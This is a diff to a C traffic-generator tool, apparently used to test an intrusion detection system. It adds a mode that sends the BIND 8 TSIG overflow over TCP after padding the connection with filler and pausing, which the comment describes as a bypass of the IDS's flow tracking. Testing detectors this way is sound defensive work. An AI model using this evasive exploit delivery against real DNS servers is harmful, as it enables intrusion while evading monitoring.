@@ -9,6 +9,9 @@
  *
  *   liongen tsig-udp ADDR          the BIND 8 TSIG overflow over UDP to 53
  *   liongen tsig-tcp ADDR          the same over TCP to 53 (needs a listener)
+ *   liongen tsig-tcp-late ADDR N   the same on a connection that first
+ *                                  carried N bytes of filler and paused
+ *                                  for 0.5 s (the port IDS's flow bypass)
  *   liongen version ADDR           a version.bind CHAOS TXT query (UDP 53)
  *   liongen dns ADDR               a benign A query for www.example.com
  *   liongen scan ADDR FROM TO      a connect() to each port FROM..TO
@@ -134,7 +137,7 @@ static int send_all(int fd, const void *data, size_t len)
 	return 0;
 }
 
-static int tsig_over_tcp(const char *ip)
+static int tsig_over_tcp(const char *ip, long filler)
 {
 	unsigned char msg[2 + sizeof(tsig_tcp)];
 	int ok, fd = tcp_connect(ip, 53, 2000, &ok);
@@ -142,6 +145,21 @@ static int tsig_over_tcp(const char *ip)
 	if (fd < 0 || !ok) {
 		fprintf(stderr, "liongen: cannot connect to %s:53\n", ip);
 		return 1;
+	}
+	if (filler > 0) {
+		char buf[16384];
+
+		memset(buf, 'f', sizeof(buf));
+		while (filler > 0) {
+			size_t n = filler < (long)sizeof(buf) ? (size_t)filler : sizeof(buf);
+
+			if (send_all(fd, buf, n) < 0) {
+				perror("liongen: send");
+				return 1;
+			}
+			filler -= (long)n;
+		}
+		usleep(500000);
 	}
 	msg[0] = 0;
 	msg[1] = sizeof(tsig_tcp);
@@ -244,7 +262,9 @@ int main(int argc, char **argv)
 	if (!strcmp(cmd, "tsig-udp") && argc == 3)
 		return udp_send(argv[2], tsig_udp, sizeof(tsig_udp));
 	if (!strcmp(cmd, "tsig-tcp") && argc == 3)
-		return tsig_over_tcp(argv[2]);
+		return tsig_over_tcp(argv[2], 0);
+	if (!strcmp(cmd, "tsig-tcp-late") && argc == 4 && atol(argv[3]) > 0)
+		return tsig_over_tcp(argv[2], atol(argv[3]));
 	if (!strcmp(cmd, "version") && argc == 3)
 		return udp_send(argv[2], version_bind, sizeof(version_bind));
 	if (!strcmp(cmd, "dns") && argc == 3)
